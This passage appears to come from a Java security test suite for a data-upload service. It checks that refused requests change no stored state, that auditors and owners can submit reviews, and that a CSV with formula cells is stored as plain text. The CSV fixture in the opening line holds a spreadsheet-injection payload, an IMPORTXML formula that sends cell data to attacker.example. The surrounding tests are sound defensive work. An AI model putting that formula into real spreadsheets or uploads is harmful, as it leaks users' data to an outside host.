                + "\"=IMPORTXML(CONCAT(\"\"http://attacker.example/?\"\",A2),\"\"//a\"\")\"\n");
        cases.check("a CSV with formula cells is taken as text for validation", () -> {
            Answer answer = upload(uploads, TestTokens.contributor(newContributor()), "formulas.csv", formulas);
            if (answer.status() != 202) {
                return "expected 202, got " + answer;
            }
            JsonNode view = answer.json();
            String sha = HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(formulas));
            Path blob = blobDir.resolve("ns/upload/sha256").resolve(sha.substring(0, 2)).resolve(sha.substring(2, 4)).resolve(sha);
            return sha.equals(view.path("sha256").asText()) && "text/csv".equals(view.path("mediaType").asText())
                    && "RECEIVED".equals(view.path("status").asText()) && Arrays.equals(formulas, Files.readAllBytes(blob))
                    ? null : "not stored as sent: " + answer;
        });

        cases.check("an operator's review of the owner's own upload is the first", () -> {
            Answer answer = json("POST", "/api/uploads/" + ownersOwnUpload + "/review", auditor, "{\"decision\":\"APPROVE\"}");
            return answer.status() == 202 ? null : "expected 202, got " + answer;
        });

        // After all of it the owner's own review is the first one recorded
        cases.check("the owner's review after the abuse is the first", () -> {
            Answer answer = json("POST", review, ownerToken, "{\"decision\":\"APPROVE\",\"comment\":\"after the abuse\"}");
            return answer.status() == 202 ? null : "expected 202, got " + answer;
        });
        return cases.finish(CASES);
    }

    /** An upload of {@code victim}'s waiting for the datanet owner's review. */
    private String pendingReview(String victim, String datanet) {
        String id = UploadFixtures.upload(victim, datanet, "mine.jsonl", jsonl("victim")).then().statusCode(202)
                .extract().path("id");
        TestEvents.publish(topics.physical(Topics.UPLOADS_VALIDATED), CloudEvent.of("/test", id, new UploadValidated(id,
                datanet, victim, 1, Verdict.PENDING_REVIEW, VerdictSource.VALIDATION, 0.9, 2, 2, Map.of(), null, null,
                null, null, Instant.now())));
        await().atMost(Duration.ofSeconds(20)).until(() -> "PENDING_REVIEW".equals(given().auth()
                .oauth2(TestTokens.contributor(victim)).get("/api/uploads/" + id).then().extract().path("status")));
        return id;
    }

    /**
     * What no refused request may change: the datanets (their number, and one's version), the uploads of the attacker and the victim, and the number of
     * files in the blob store (blobs and temporary files), so every refusal is also checked to store nothing.
     */
    private String state(String attackerToken, String victimsUpload, String auditorToken, String datanet) {
        String datanets = RawHttp.probe("/api/datanets?size=1", attackerToken).path("total").asText();
        JsonNode one = RawHttp.probe("/api/datanets/" + datanet, attackerToken);
        String definition = one.path("version").asText() + " " + one.path("archivedAt").asText();
        String attackers = RawHttp.probe("/api/uploads?size=1", attackerToken).path("total").asText();
        String victims = RawHttp.probe("/api/uploads/" + victimsUpload, auditorToken).path("status").asText();
        try (Stream<Path> blobs = Files.walk(blobDir)) {
            return "datanets=" + datanets + " definition of one=" + definition + " attacker's uploads=" + attackers + " victim's upload " + victims
                    + " blobs=" + blobs.filter(Files::isRegularFile).count();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** {@code n} bytes of one letter: text, and a different file for each letter. */
    private static byte[] letters(char letter, int n) {
        byte[] bytes = new byte[n];
        Arrays.fill(bytes, (byte) letter);
        return bytes;
    }

    private static Answer upload(String path, String token, String fileName, byte[] content) throws Exception {
        return upload(path, token, fileName, content, Map.of());
    }

    private static Answer upload(String path, String token, String fileName, byte[] content, Map<String, String> headers)
            throws Exception {
        return RawHttp.multipart(path, bearer(token), "file", fileName, content, headers);
    }

    private static Answer send(String method, String path, String authorization, String jsonBody) throws Exception {
        return RawHttp.send(method, path, authorization, jsonBody == null ? null : "application/json",
                jsonBody == null ? null : utf8(jsonBody), Map.of());
    }
}
